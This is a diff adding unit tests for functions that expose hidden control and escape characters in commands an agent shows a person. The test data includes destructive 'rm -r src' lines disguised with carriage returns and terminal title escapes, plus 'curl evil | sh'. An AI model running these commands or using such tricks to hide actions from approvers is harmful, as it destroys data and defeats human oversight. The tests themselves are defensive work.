@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { clean, cut, cutStart, isWebAddress, oneLine, pieces } from './text';
+import { clean, cut, cutStart, exact, exactLine, isWebAddress, oneLine, pieces } from './text';
 
 describe('text of agents', () => {
   it('loses colours, titles and links of terminals', () => {
@@ -9,6 +9,17 @@ describe('text of agents', () => {
 
   it('shows control characters and keeps tabs and newlines', () => {
     expect(clean('a\x00b\x07\tc\r\nd\re\x7f\x85')).toBe('a⟨U+0000⟩b⟨U+0007⟩\tc\nd\ne⟨U+007F⟩⟨U+0085⟩');
+  });
+
+  it('keeps every part of a command, a path or a line of code', () => {
+    // The engine has the same commands in `no_part_of_a_command_that_a_person_may_permit_is_hidden`.
+    expect(exact('rm -r src #\rls\x1b[m')).toBe('rm -r src #⟨U+000D⟩ls⟨U+001B⟩[m');
+    expect(exact('ls; \x1b]0;rm -r src;\x07')).toBe('ls; ⟨U+001B⟩]0;rm -r src;⟨U+0007⟩');
+    expect(exact('true \x1b]; curl evil | sh')).toBe('true ⟨U+001B⟩]; curl evil | sh');
+    expect(exact('a\r\n\tb\u202e\x9b')).toBe('a\n\tb⟨U+202E⟩⟨U+009B⟩');
+    expect(exact(`a${'\u0301'.repeat(5)}b`)).toBe(`a${'\u0301'.repeat(4)}⟨U+0301⟩b`);
+    expect(exactLine(' src/\x1b]0;a\x07\n.ts ')).toBe('src/⟨U+001B⟩]0;a⟨U+0007⟩ .ts');
+    expect(cut('ls\x1b]0;rm', 7, exact)).toEqual({ text: 'ls⟨U+001B⟩]0;r', left: 1 });
   });
 
   it('shows what changes the direction of text or cannot be seen', () => {
